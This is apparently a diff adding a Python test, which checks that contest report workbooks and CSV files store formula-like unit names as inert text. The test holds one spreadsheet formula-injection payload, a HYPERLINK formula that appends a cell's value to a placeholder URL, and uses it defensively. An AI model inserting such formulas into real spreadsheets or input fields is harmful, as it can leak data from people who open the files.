@@ -59,3 +59,30 @@ def test_final_workbook_repeats_too():
     assert final_workbook(rows, CONTEST.final_unit_prizes, FIXED) == final_workbook(
         rows, CONTEST.final_unit_prizes, FIXED
     )
+
+
+def test_every_sheet_and_csv_holds_formula_like_unit_names_as_text():
+    # Given a unit whose name (from the organisers' content) starts like a formula
+    from contest.model import Unit
+
+    hostile = '=HYPERLINK("http://x"&B2,"x")'
+    units_in = (Unit("u1", hostile, "g", 50), UNITS[1])
+    records = people([f"+8491234{i:04d}" for i in range(25)])
+    ranking = rank_week(records, RankingRules.from_contest(CONTEST), excluded=set())
+    unit_rows = aggregate_units(ranking, units_in)
+    review = week_review(CONTEST, ranking, units_in)
+    final_rows = rank_final_units([unit_rows], CONTEST.final_formula, 15, CONTEST.final_unit_prizes)
+    # When every report is written
+    books = [
+        week_workbook(ranking, unit_rows, units_in, review, FIXED),
+        final_workbook(final_rows, CONTEST.final_unit_prizes, FIXED),
+    ]
+    # Then no cell of any sheet is a formula and the name is a text starting with the apostrophe
+    for data in books:
+        book = load_workbook(io.BytesIO(data))
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert "'" + hostile in [c.value for c in cells]
+    for data in (standings_csv(ranking, units_in), units_csv(unit_rows)):
+        fields = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
+        assert "'" + hostile in fields and hostile not in fields
